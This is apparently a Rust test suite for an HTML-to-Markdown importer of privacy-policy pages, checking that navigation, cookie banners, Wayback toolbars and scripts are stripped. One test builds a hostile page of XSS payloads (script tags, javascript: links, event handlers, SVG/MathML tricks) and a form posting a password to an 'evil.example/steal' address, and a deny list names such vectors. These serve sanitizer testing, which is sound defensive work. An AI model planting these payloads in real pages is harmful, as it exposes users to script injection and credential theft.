//! `policyhub import` of saved HTML pages (issue #20): pages in the shapes real ones have
//! (tests/fixtures/html) become version files with the policy's words, headings, lists, tables
//! and links, and none of the page's chrome or active content; a Wayback capture gives its
//! dates and addresses; a page without a policy is refused and nothing is written.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use common::TempHub;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/html")
        .join(name)
}

/// An empty hub: a site.toml and nothing else.
fn empty_hub() -> TempHub {
    let hub = TempHub {
        dir: tempfile::tempdir().unwrap(),
    };
    hub.write(
        "site.toml",
        "title = \"Import test\"\nbase_url = \"https://example.org\"\n",
    );
    hub
}

/// `policyhub import <args> --root <hub>`: (success, stdout, stderr), asserting no panic.
fn import(hub: &TempHub, args: &[&str]) -> (bool, String, String) {
    let out = hub.command(&[&["import"], args].concat()).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!stderr.contains("panicked"), "{stderr}");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr,
    )
}

/// Imports a fixture page into a new hub and returns the hub, the report and the version file.
fn import_fixture(page: &str, org: &str, extra: &[&str], version: &str) -> (TempHub, String, String) {
    let hub = empty_hub();
    let path = fixture(page);
    let (ok, stdout, stderr) = import(&hub, &[&[path.to_str().unwrap(), "--org", org], extra].concat());
    assert!(ok, "{page}: {stderr}");
    let file = hub.path(&format!("content/{org}/privacy-policy/{version}.md"));
    let text = fs::read_to_string(&file).unwrap_or_else(|e| panic!("{}: {e}\n{stdout}", file.display()));
    (hub, stdout, text)
}

/// `policyhub import - --org acme --html` of `page` into `hub`, asserting it succeeds.
fn import_page(hub: &TempHub, page: &str) {
    let out = hub
        .command(&["import", "-", "--org", "acme", "--html"])
        .write_stdin(page)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

/// The version file's front matter and body.
fn split(version: &str) -> (&str, &str) {
    let rest = version.strip_prefix("+++\n").expect("front matter");
    let end = rest.find("\n+++\n").expect("end of front matter");
    (&rest[..end + 1], &rest[end + 5..])
}

fn assert_has(body: &str, wanted: &[&str]) {
    for w in wanted {
        assert!(body.contains(w), "missing {w:?} in:\n{body}");
    }
}

fn assert_lacks(body: &str, unwanted: &[&str]) {
    for u in unwanted {
        assert!(
            !body.to_lowercase().contains(&u.to_lowercase()),
            "{u:?} reached the version:\n{body}"
        );
    }
}

/// What no version made from a page may hold: markup, handlers, scripts' and styles' text.
const ACTIVE: &[&str] = &[
    "<script",
    "<style",
    "<iframe",
    "<img",
    "<form",
    "<input",
    "<button",
    "javascript:",
    "onclick",
    "onmouseover",
    "onerror",
    "data:text",
];

#[test]
fn a_wayback_capture_loses_its_toolbar_and_gives_its_dates_and_addresses() {
    let (hub, stdout, version) = import_fixture("wayback-capture.html", "example-shop", &[], "2015-01-05");
    let (front, body) = split(&version);
    assert_eq!(
        front,
        "effective = 2015-01-05\ncaptured = 2015-03-12\nsource = \"https://www.example-shop.com/privacy\"\narchive = \"https://web.archive.org/web/20150312083015/https://www.example-shop.com/privacy\"\n"
    );
    assert_has(
        body,
        &[
            "# Example Shop Privacy Policy\n",
            "## What we collect\n",
            "## How we use it\n",
            "## Cookies\n",
            "- your name and delivery address;\n",
            "- your payment card details, which our payment provider keeps.\n",
            // Rewritten links get their original addresses back; the page's own anchor is local.
            "[our website](https://www.example-shop.com/)",
            "[Terms of Sale](https://www.example-shop.com/terms)",
            "[the cookies section](#cookies)",
            "[how Google uses data from sites that use its services](http://www.google.com/policies/privacy/partners/)",
            "[privacy@example-shop.com](mailto:privacy@example-shop.com)",
        ],
    );
    assert_lacks(
        body,
        &[
            "web.archive.org",
            "/web/2015",
            "Wayback",
            "captures",
            "About this capture",
            "Sign in",
            "COLLECTED BY",
            "Alexa",
            "Find a store",
            "My account",
            "Careers",
            "All rights reserved",
            "GoogleAnalyticsObject",
            "__wm",
            "FILE ARCHIVED ON",
        ],
    );
    assert_lacks(body, ACTIVE);
    assert!(
        stdout.contains("captured  2015-03-12  (the Wayback toolbar's script of the HTML page)"),
        "{stdout}"
    );
    assert!(stdout.contains("1 Wayback toolbar"), "{stdout}");
    assert_eq!(
        fs::read_to_string(hub.path("content/example-shop/privacy-policy/policy.toml")).unwrap(),
        "title = \"Privacy Policy\"\nurl = \"https://www.example-shop.com/privacy\"\n"
    );
    let (ok, _, stderr) = hub.build();
    assert!(ok, "{stderr}");
    let html = hub.read_output("example-shop/privacy-policy/2015-01-05/index.html");
    assert!(html.contains("href=\"https://www.example-shop.com/terms\""));
}

/// Without the toolbar's script the capture is still known by its canonical link, og:url, the
/// toolbar's form or the saved file's name.
#[test]
fn a_wayback_capture_is_known_by_any_of_its_marks() {
    let page = fs::read_to_string(fixture("wayback-capture.html")).unwrap();
    let without_script = page.replace("__wm.wombat(", "__wm.other(");
    let without_toolbar = {
        let begin = without_script.find("<!-- BEGIN WAYBACK").unwrap();
        let end = without_script.find("<!-- END WAYBACK TOOLBAR INSERT -->").unwrap();
        format!("{}{}", &without_script[..begin], &without_script[end..])
    };
    let bare = without_toolbar
        .replace("<link rel=\"canonical\"", "<link rel=\"alternate\"")
        .replace("property=\"og:url\"", "property=\"og:site\"");
    for (name, page, from) in [
        (
            "a.html",
            without_script.as_str(),
            "the Wayback toolbar of the HTML page",
        ),
        (
            "b.html",
            without_toolbar.as_str(),
            "the canonical link of the HTML page",
        ),
        (
            "web.archive.org/web/20150312083015/https:/www.example-shop.com/privacy.html",
            bare.as_str(),
            "the file name of the HTML page",
        ),
    ] {
        let hub = empty_hub();
        hub.write(name, page);
        let (ok, stdout, stderr) = import(&hub, &[hub.path(name).to_str().unwrap(), "--org", "shop", "--dry-run"]);
        assert!(ok, "{name}: {stderr}");
        assert!(stdout.contains("captured = 2015-03-12\n"), "{name}: {stdout}");
        assert!(
            stdout.contains(
                "archive = \"https://web.archive.org/web/20150312083015/https://www.example-shop.com/privacy"
            ),
            "{name}: {stdout}"
        );
        assert!(stderr.contains(from), "{name}: {stderr}");
        assert!(!stdout.contains("web.archive.org/web/20150312083015/https://www.example-shop.com/terms"));
    }
}

#[test]
fn navigation_cookie_banner_and_footer_around_the_policy_never_reach_the_version() {
    let (hub, stdout, version) = import_fixture("chrome-around.html", "northwind", &[], "2021-02-14");
    let (front, body) = split(&version);
    assert_eq!(
        front,
        "effective = 2021-02-14\nsource = \"https://www.northwind.example/legal/privacy-notice\"\n"
    );
    assert_has(
        body,
        &[
            "# Northwind Travel Privacy Notice\n\nLast updated: 14 February 2021\n",
            "## 1. The data we collect\n",
            "- Identity data: your name, date of birth and passport number.\n",
            "- Booking data: the trips you book and the **special assistance** you ask for.\n",
            "Purposes and legal bases\n",
            "| Purpose | Legal basis |\n",
            "| Sending you offers | Consent |\n",
            "| Preventing fraud | Legitimate interests |\n",
            // The policy's own section on cookies is not a cookie banner.
            "## 3. Cookies\n\nWe use cookies to remember your searches.",
            // A script link keeps its words and loses its address.
            "at any time in Cookie settings or read our [cookie policy](https://www.northwind.example/legal/cookies)",
            "[Terms](https://www.northwind.example/legal/terms#definitions)",
            "[Information Commissioner's Office](https://ico.org.uk/)",
            "[dpo@northwind.example](mailto:dpo@northwind.example)",
        ],
    );
    assert_lacks(
        body,
        &[
            "Skip to main content",
            "We and our partners use cookies",
            "Accept all cookies",
            "Flights",
            "Last-minute deals",
            "Where to?",
            "Search destinations",
            "Home",
            "Need help?",
            "travel experts",
            "best deals",
            "Sign me up",
            "About Northwind",
            "Registered in England",
            "Share on Twitter",
            "dataLayer",
            "TRACKING_SECRET",
            "tracker.example",
            "document.write",
            "StyleRuleLeak",
            "schema.org",
            "youtube",
            "your rights explained",
            "OneTrust",
            "steal",
        ],
    );
    assert_lacks(body, ACTIVE);
    assert!(stdout.contains("policy    <main>"), "{stdout}");
    assert!(
        stdout.contains("1 cookie banner") && stdout.contains("1 footer"),
        "{stdout}"
    );
    assert!(hub.build().0);
}

#[test]
fn a_policy_in_sections_without_landmarks_keeps_its_headings_lists_and_table() {
    let (_hub, stdout, version) = import_fixture("sections.html", "fabrikam", &[], "2018-06-02");
    let (front, body) = split(&version);
    assert_eq!(front, "effective = 2018-06-02\n");
    assert_has(
        body,
        &[
            "# Fabrikam Privacy Statement\n\nRevised: 2 June 2018\n\n## Scope\n",
            "## Information we process\n",
            "## Processors we use\n",
            "## Retention\n",
            "## Contact\n",
            "**Account information.** When you register",
            "- the call stack at the moment of the crash;\n  - with file paths shortened to their last part;\n  - with user names removed.\n- an anonymous installation identifier.\n",
            "| Processor | Service | Location |\n",
            "| Litware Mail | E-mail delivery | Germany |\n",
            "six years after it ends, as tax law requires.",
        ],
    );
    assert_lacks(
        body,
        &[
            "Products",
            "Blog",
            "Log in",
            "Imprint",
            "Copyright",
            "Fabrikam GmbH",
            "dropdown",
            "jquery",
        ],
    );
    assert_lacks(body, ACTIVE);
    assert!(stdout.contains("where Readability finds the main text"), "{stdout}");
}

#[test]
fn select_and_remove_choose_the_policy_by_hand() {
    let page = fixture("help-center.html");
    let page = page.to_str().unwrap();
    let args = [
        "--select",
        ".article-header",
        "--select",
        "div.article-body",
        "--remove",
        ".toc",
        "--remove",
        ".article-votes",
    ];
    let (_hub, stdout, version) = import_fixture("help-center.html", "woodgrove", &args, "2019-09-01");
    let (front, body) = split(&version);
    assert_eq!(
        front,
        "effective = 2019-09-01\nsource = \"https://help.woodgrove.example/hc/en-us/articles/360001-Privacy-Policy\"\n"
    );
    assert_has(
        body,
        &[
            "# Woodgrove Bank Privacy Policy\n",
            "Effective date: September 1, 2019\n",
            "## What we collect\n",
            "## Who we share it with\n",
            "where the law requires it, with tax authorities.",
        ],
    );
    assert_lacks(
        body,
        &[
            "Contents",
            "Was this article helpful",
            "found this helpful",
            "Return to top",
            "Related articles",
            "Recently viewed",
            "reset my online banking password",
            "Submit a request",
            "Powered by",
        ],
    );
    assert!(
        stdout.contains("policy    --select '.article-header' 'div.article-body'"),
        "{stdout}"
    );
    assert!(stdout.contains("2 --remove"), "{stdout}");

    // Without them the policy is found all the same, headings included.
    let (_hub, _, version) = import_fixture("help-center.html", "woodgrove", &[], "2019-09-01");
    assert_has(
        split(&version).1,
        &["## What we collect\n", "## Who we share it with\n"],
    );

    // Mistakes name the flag and what to do.
    let hub = empty_hub();
    let (ok, _, stderr) = import(&hub, &[page, "--org", "w", "--select", "#no-such-element"]);
    assert!(
        !ok && stderr.contains("--select '#no-such-element' matches nothing in this page"),
        "{stderr}"
    );
    let (ok, _, stderr) = import(&hub, &[page, "--org", "w", "--remove", "div[["]);
    assert!(
        !ok && stderr.contains("--remove: error: `div[[` is not a CSS selector"),
        "{stderr}"
    );
    let text = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/captures/page-scrape.txt");
    let (ok, _, stderr) = import(&hub, &[text.to_str().unwrap(), "--org", "w", "--select", "main"]);
    assert!(
        !ok && stderr.contains("--select and --remove apply to HTML pages"),
        "{stderr}"
    );
    assert!(stderr.contains("pass --html"), "{stderr}");
    assert!(!hub.path("content").exists());
}

/// Every file under `content/` with its bytes.
fn content_files(hub: &TempHub) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<(PathBuf, Vec<u8>)> = walkdir::WalkDir::new(hub.path("content"))
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| (e.path().to_path_buf(), fs::read(e.path()).unwrap()))
        .collect();
    files.sort();
    files
}

#[test]
fn a_page_of_chrome_only_is_refused_and_nothing_is_written() {
    let hub = empty_hub();
    hub.write("content/tailspin/org.toml", "name = \"Tailspin Toys\"\n");
    hub.write(
        "content/tailspin/privacy-policy/2022-01-01.md",
        "+++\neffective = 2022-01-01\n+++\n# Privacy\n\nWe keep nothing.\n",
    );
    let before = content_files(&hub);
    let page = fixture("all-chrome.html");
    for extra in [&[][..], &["--force"], &["--effective", "2023-01-01"]] {
        let (ok, stdout, stderr) = import(&hub, &[&[page.to_str().unwrap(), "--org", "tailspin"], extra].concat());
        assert!(!ok, "{stdout}");
        assert!(
            stderr.contains("all-chrome.html: error: no policy found in this HTML page"),
            "{stderr}"
        );
        assert!(stderr.contains("help: pass --select CSS"), "{stderr}");
        assert!(stderr.contains("import failed: 1 error"), "{stderr}");
        assert_eq!(content_files(&hub), before, "content/ changed");
    }
}

#[test]
fn standard_input_is_read_as_html_with_the_flag_or_by_its_first_bytes() {
    let page = fs::read_to_string(fixture("chrome-around.html")).unwrap();
    for args in [&["--html"][..], &[]] {
        let hub = empty_hub();
        let out = Command::cargo_bin("policyhub")
            .unwrap()
            .args([&["import", "-", "--org", "northwind", "--dry-run"], args].concat())
            .arg("--root")
            .arg(hub.root())
            .write_stdin(page.clone())
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        assert!(stdout.starts_with("+++\neffective = 2021-02-14\n"), "{stdout}");
        assert!(stdout.contains("| Sending you offers | Consent |"), "{stdout}");
        assert_lacks(&stdout, &["Accept all cookies", "dataLayer"]);
    }
    // A fragment without <html> needs the flag: read as text it keeps its tags escaped.
    let hub = empty_hub();
    let fragment = "<h1>Acme Privacy</h1><p>Updated: 1 May 2020. We collect your name and your <a href=\"account\">address</a>.</p><nav><a href=\"/\">Home</a></nav>";
    let out = Command::cargo_bin("policyhub")
        .unwrap()
        .args(["import", "-", "--org", "acme", "--html", "--dry-run"])
        .args(["--source", "https://acme.example/legal/privacy", "--root"])
        .arg(hub.root())
        .write_stdin(fragment)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        // A relative link is made absolute against --source.
        stdout.ends_with("+++\n# Acme Privacy\n\nUpdated: 1 May 2020. We collect your name and your [address](https://acme.example/legal/account).\n"),
        "{stdout}"
    );
}

#[test]
fn text_that_reads_as_a_reference_or_an_attribute_list_stays_text_on_the_page() {
    let hub = empty_hub();
    let page = "<html><body><main><h1>Acme Privacy</h1><p>Updated: 1 May 2020. We collect your name.</p>\
        <h2>Cookies {#top}</h2><p>The sign &amp;copy; is not &copy;; see <a href=\"https://acme.example/?a=1&amp;b=2\">\
        terms &amp;amp; conditions</a> and <code>&amp;lt;</code>.</p></main></body></html>";
    import_page(&hub, page);
    let (ok, _, stderr) = hub.build();
    assert!(ok, "{stderr}");
    let html = hub.read_output("acme/privacy-policy/index.html");
    assert_has(
        &html,
        &[
            ">Cookies {#top} <",
            "The sign &amp;copy; is not ©;",
            "href=\"https://acme.example/?a=1&amp;b=2\"",
            ">terms &amp;amp; conditions</a>",
            "<code>&amp;lt;</code>",
        ],
    );
    assert_lacks(&html, &["id=\"top\""]);
}

/// Lists as CMSs write them: an item that only indents a list (`<li><ul>…`), an item whose
/// term is a heading, an item of several paragraphs. Each keeps its words in its list, with
/// no marker or `#` the policy never had.
#[test]
fn list_items_in_the_shapes_cms_write_keep_their_words_in_their_list() {
    let hub = empty_hub();
    let page = "<html><body><main><h1>Acme Privacy</h1><p>Updated: 1 May 2020. We collect these data.</p>\
        <ul><li><ul><li>Name and address</li><li>Email</li></ul></li><li>Usage data</li></ul>\
        <ul><li><h3>Account data</h3><p>Your name.</p></li><li><p>Payment data</p><p>Your card.</p>\
        <p>Its expiry.</p></li><li>Device data</li></ul></main></body></html>";
    import_page(&hub, page);
    let version = fs::read_to_string(hub.path("content/acme/privacy-policy/2020-05-01.md")).unwrap();
    let (_, body) = split(&version);
    assert_has(
        body,
        &[
            "- Name and address\n- Email\n- Usage data\n",
            "- **Account data**\n  Your name.\n",
            "- Payment data\n  Your card.\n  Its expiry.\n- Device data\n",
        ],
    );
    assert_lacks(body, &["\\-", "\\#"]);
    let (ok, _, stderr) = hub.build();
    assert!(ok, "{stderr}");
}

/// A hostile capture: every way a page carries script, and text that only looks like markup.
#[test]
fn no_active_content_of_a_hostile_page_reaches_the_version_or_the_site() {
    let page = r#"<!DOCTYPE html><html><head><title>x</title>
<script>alert('head')</script><style>body{background:url(javascript:alert(1))}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:alert(1)//">
</head><body onload="alert('body')">
<main>
<h1 onclick="alert('h1')">Contoso Privacy Policy</h1>
<p>Effective: 2020-05-01. We collect <b onmouseover="alert('b')">your e-mail address</b> and nothing else.</p>
<p>Our engineers write &lt;script&gt;alert(1)&lt;/script&gt; on whiteboards, never on pages.</p>
<SCRIPT type="text/javascript">alert('upper')</SCRIPT>
<svg><script>alert('svg')</script><a xlink:href="javascript:alert(2)"><text>svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="javascript:alert(3)"></object><embed src="evil.swf">
<template><script>alert('template')</script></template>
<form action="https://evil.example/steal"><input name="password" value="hunter2"><button formaction="javascript:alert(4)">Go</button></form>
<p>Read <a href=" javascript:alert(5)">our rules</a>, <a href="JaVaScRiPt:alert(6)">our terms</a>, <a href="data:text/html;base64,PHNjcmlwdD4=">our data</a> and <a href="vbscript:msgbox(7)">our notes</a>.</p>
<img src="https://tracker.example/p.gif" onerror="alert('img')"><video src="v.mp4" onplay="alert('v')"></video>
<div style="background:url(javascript:alert(8))" onclick="alert('div')">Contact us at privacy@contoso.example.</div>
</main></body></html>"#;
    let hub = empty_hub();
    hub.write("hostile.html", page);
    let (ok, _, stderr) = import(&hub, &[hub.path("hostile.html").to_str().unwrap(), "--org", "contoso"]);
    assert!(ok, "{stderr}");
    let version = fs::read_to_string(hub.path("content/contoso/privacy-policy/2020-05-01.md")).unwrap();
    let body = split(&version).1;
    assert_has(
        body,
        &[
            "# Contoso Privacy Policy\n",
            "We collect **your e-mail address** and nothing else.",
            "Read our rules, our terms, our data and our notes.",
            "Contact us at privacy@contoso.example.",
        ],
    );
    assert_lacks(
        body,
        &[
            "alert('",
            "hunter2",
            "evil",
            "tracker",
            "msgbox",
            "vbscript",
            "srcdoc",
            "svg link",
            "background",
            "Go\n",
        ],
    );
    // The escaped text is the policy's words, kept escaped (`\<script>`): the site shows it,
    // never runs it. Nothing else looks like markup.
    let escaped = "Our engineers write \\<script>alert(1)\\</script> on whiteboards, never on pages.\n";
    assert!(body.contains(escaped), "{body}");
    assert_lacks(&body.replace(escaped, ""), ACTIVE);
    let (ok, _, stderr) = hub.build();
    assert!(ok, "{stderr}");
    let html = hub.read_output("contoso/privacy-policy/2020-05-01/index.html");
    assert!(!html.contains("<script>alert"), "{html}");
    assert!(html.contains("&lt;script&gt;alert(1)"), "{html}");
}

#[test]
fn an_imported_page_reimports_to_the_same_bytes() {
    let (hub, _, version) = import_fixture("chrome-around.html", "northwind", &[], "2021-02-14");
    let file = hub.path("content/northwind/privacy-policy/2021-02-14.md");
    let (ok, _, stderr) = import(&hub, &[file.to_str().unwrap(), "--org", "northwind", "--force"]);
    assert!(ok, "{stderr}");
    assert_eq!(fs::read_to_string(&file).unwrap(), version);
}

/// Tag soup of the shapes pages have, with active content and chrome mixed in.
fn page_strategy() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let piece = prop::sample::select(vec![
        "<main>",
        "</main>",
        "<article>",
        "</article>",
        "<section>",
        "</section>",
        "<div class=\"cookie-banner\">",
        "<div class=\"content\">",
        "</div>",
        "<nav>",
        "</nav>",
        "<header>",
        "</header>",
        "<footer>",
        "</footer>",
        "<h1>",
        "</h1>",
        "<h2>",
        "</h2>",
        "<p>",
        "</p>",
        "<ul>",
        "<li>",
        "</ul>",
        "<table><tr><td>",
        "</td><td>",
        "</td></tr></table>",
        "<caption>",
        "<dl><dt>",
        "<dd>",
        "</dl>",
        "<a href=\"javascript:alert(1)\">",
        "<a href=\"/web/20150312083015/https://x.example/p\">",
        "<a href=\"#top\">",
        "</a>",
        "<script>alert(1)</script>",
        "<style>p{}</style>",
        "<iframe src=x>",
        "<form>",
        "</form>",
        "<img src=x onerror=alert(1)>",
        "<b onclick=alert(1)>",
        "</b>",
        "<!-- BEGIN WAYBACK TOOLBAR INSERT -->",
        "<!-- END WAYBACK TOOLBAR INSERT -->",
        "<link rel=canonical href=\"https://web.archive.org/web/2015/x\">",
        "We collect your data.",
        "Effective date: 1 May 2020.",
        "Cookies",
        "Privacy Policy",
        "&lt;script&gt;",
        "| pipe |",
        "* star",
        "1. one",
    ]);
    prop::collection::vec(piece, 0..60).prop_map(|p| format!("<!doctype html><html><body>{}", p.join(" ")))
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
        std::env::var("IMPORT_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(200)
    ))]

    /// Any page: no panic, and whatever is written has no active content.
    #[test]
    fn generated_pages_never_panic_nor_carry_active_content(page in page_strategy()) {
        let overrides = policyhub::import::Overrides {
            effective: Some("2020-01-01".parse().unwrap()),
            ..Default::default()
        };
        let options = policyhub::import::HtmlOptions::default();
        if let Ok(c) = policyhub::import::convert_html(Path::new("g.html"), page.as_bytes(), &overrides, &options) {
            let body = c.body.replace("\\<script>", "");
            assert_lacks(&body, ACTIVE);
            assert_lacks(&body, &["alert(1)</script", "web.archive.org/web/2015"]);
        }
    }
}

/// A page of 50,000 nested lists (hostile or broken) is flattened before it is parsed: not a
/// stack overflow, nor minutes in the parser.
/// A saved page's inline scripts are full of `<` (`i<n`): none of them opens an element, so
/// the depth bound leaves the page as it is and its policy is found.
#[test]
fn a_page_with_a_long_inline_script_keeps_its_policy() {
    let script = "for(var i=0;i<n;i++){if(a>b){c()}}".repeat(2_000);
    let page = format!(
        "<!doctype html><html><head><script>{script}</script></head><body><main><h1>Privacy</h1>\
         <p>We collect your name and your address, nothing else. Updated: 1 May 2020.</p>\
         <script>{script}</script><h2>Sharing</h2><p>We share nothing with anyone.</p></main></body></html>"
    );
    let overrides = policyhub::import::Overrides::default();
    let options = policyhub::import::HtmlOptions::default();
    let c = policyhub::import::convert_html(Path::new("scripted.html"), page.as_bytes(), &overrides, &options).unwrap();
    assert_eq!(c.effective.to_string(), "2020-05-01");
    assert!(c.body.contains("## Sharing"), "{}", c.body);
    assert!(c.body.contains("We share nothing with anyone."), "{}", c.body);
    assert!(!c.body.contains("i<n"), "{}", c.body);
}

#[test]
fn deeply_nested_pages_are_flattened() {
    let n = 50_000;
    let page = format!(
        "<!doctype html><html><body><main>{}We collect your name and your address, nothing else. Updated: 1 May 2020.{}</main></body></html>",
        "<ul><li><div>".repeat(n),
        "</div></li></ul>".repeat(n)
    );
    let overrides = policyhub::import::Overrides::default();
    let options = policyhub::import::HtmlOptions::default();
    let c = policyhub::import::convert_html(Path::new("deep.html"), page.as_bytes(), &overrides, &options).unwrap();
    assert_eq!(c.effective.to_string(), "2020-05-01");
    assert!(
        c.body.contains("We collect your name and your address, nothing else."),
        "{}",
        c.body
    );
    assert!(c
        .found
        .iter()
        .any(|f| f.value.contains("nesting deeper than 100 levels")));
}

/// What is flattened past the depth keeps its words apart: the cells of a table, its list's
/// items and the paragraph after run into no new words.
#[test]
fn the_blocks_of_a_flattened_page_keep_their_words_apart() {
    let page = format!(
        "<!doctype html><html><body><main><h1>Privacy Policy</h1><p>Updated: 1 May 2020. We keep some data.</p>{}         <table><tr><td>Email address</td><td>kept 30 days</td></tr></table><ul><li>list item words</li></ul><p>para words</p>{}         </main></body></html>",
        "<div>".repeat(101),
        "</div>".repeat(101)
    );
    let overrides = policyhub::import::Overrides::default();
    let options = policyhub::import::HtmlOptions::default();
    let c = policyhub::import::convert_html(Path::new("deep.html"), page.as_bytes(), &overrides, &options).unwrap();
    let words: Vec<&str> = c.body.split_whitespace().collect();
    for glued in ["addresskept", "daysl", "wordspara"] {
        assert!(!words.iter().any(|w| w.contains(glued)), "{}", c.body);
    }
    assert!(
        c.body.contains("Email address") && c.body.contains("kept 30 days") && c.body.contains("para words"),
        "{}",
        c.body
    );

    // Tables in cells 25 deep: the innermost cell is flattened out of its row, and still read.
    let page = format!(
        "<!doctype html><html><body><main><h1>Privacy Policy</h1><p>Updated: 1 May 2020. We keep some data.</p>{}innermost cell words{}</main></body></html>",
        "<table><tr><td>".repeat(25),
        "</td></tr></table>".repeat(25)
    );
    let c = policyhub::import::convert_html(Path::new("cells.html"), page.as_bytes(), &overrides, &options).unwrap();
    assert!(c.body.contains("innermost cell words"), "{}", c.body);
}

/// A table inside a table's cell becomes that cell's text, row by row: nothing after the outer
/// table is glued onto its last row (where a Markdown table drops it).
#[test]
fn a_table_in_a_table_cell_becomes_its_text_and_keeps_what_follows_apart() {
    let hub = empty_hub();
    let page = hub.path("page.html");
    fs::write(
        &page,
        "<main><h1>Privacy Policy</h1><p>We collect data about you in several ways listed here.</p>\
         <table><tr><th>Data</th><th>Kept</th></tr><tr><td>Logs</td><td><table><tr><td>EU</td><td>30 days</td></tr><tr><td>US</td><td>90 days</td></tr></table></td></tr></table>\
         <details><summary>California residents</summary><p>You have extra rights.</p></details></main>",
    )
    .unwrap();
    let (ok, _, stderr) = import(
        &hub,
        &[page.to_str().unwrap(), "--org", "acme", "--effective", "2020-01-01"],
    );
    assert!(ok, "{stderr}");
    let version = fs::read_to_string(hub.path("content/acme/privacy-policy/2020-01-01.md")).unwrap();
    let (_, body) = split(&version);
    assert!(body.contains("| Logs | EU 30 days; US 90 days |\n"), "{body}");
    assert!(
        body.contains("\n\nCalifornia residents\n\nYou have extra rights."),
        "{body}"
    );
}
